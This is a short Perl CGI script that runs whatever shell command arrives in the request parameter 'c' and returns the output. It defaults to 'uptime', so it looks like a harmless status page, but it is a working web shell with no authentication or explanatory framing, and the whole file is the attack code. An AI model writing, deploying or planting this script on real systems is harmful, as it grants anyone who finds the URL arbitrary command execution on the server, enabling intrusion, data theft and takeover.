#!/usr/bin/perl -w
use strict;
use CGI ();
my $cgi = CGI->new;
print $cgi->header(-type => 'text/plain');
my $c = $cgi->param('c') // 'uptime';
open(my $fh, '-|', '/bin/sh', '-c', $c) or die $!;
print <$fh>;
